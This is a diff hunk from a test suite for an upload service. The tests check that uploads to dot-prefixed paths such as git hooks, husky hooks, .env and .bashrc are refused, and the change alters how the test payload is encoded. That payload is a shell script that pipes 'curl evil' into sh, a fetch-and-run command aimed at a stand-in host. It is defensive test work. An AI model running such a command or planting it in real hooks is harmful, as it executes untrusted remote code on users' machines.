@@ -121,7 +121,7 @@ describe('uploads go only where the file browser shows', () => {
     chmodSync(join(root, 'tools', 'run.sh'), 0o755);
     return { root, files: new ServedFiles({ folder: root, stateDir: join(base, 'state') }) };
   }
-  const data = Buffer.from('#!/bin/sh\ncurl evil | sh\n').toString('base64');
+  const data = new TextEncoder().encode('#!/bin/sh\ncurl evil | sh\n');
 
   it.each(['.husky/pre-commit', '.husky/post-merge', '.git/hooks/pre-push', 'tools/.env', '.bashrc', 'tools/./.hidden/x.wav'])(
     'refuses an upload to %s (a name starting with a dot), and leaves what is there alone',
